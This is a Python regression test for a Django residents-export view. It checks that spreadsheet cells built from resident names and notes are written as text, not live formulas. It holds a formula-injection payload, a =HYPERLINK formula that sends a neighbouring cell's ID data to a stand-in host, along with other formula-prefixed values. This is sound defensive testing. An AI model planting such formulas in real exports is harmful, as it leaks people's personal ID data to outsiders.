"""The residents export never holds a live formula: a resident named like a formula is written as text,
even beside full ID numbers (finding: =HYPERLINK(...) sent the neighbouring cell anywhere)."""

import io

import openpyxl
from django.urls import reverse

from lianfang.people.models import Resident

HYPERLINK = '=HYPERLINK("http://x/?x="&A2,"点我")'


def cells(response) -> list:
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def test_a_resident_named_like_a_formula_is_exported_as_text(world, login):
    Resident.objects.filter(pk=world.zhang_san.pk).update(name=HYPERLINK, notes="+86 @home")
    Resident.objects.filter(pk=world.li_si.pk).update(name="-李四", notes="\t=1+1")
    found = cells(login(world.staff_a).get(reverse("people:export"), {"full_id": "1"}))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    values = {c.value for c in found}
    assert {HYPERLINK, "+86 @home", "-李四", "\t=1+1", world.zhang_san.full_id()} <= values
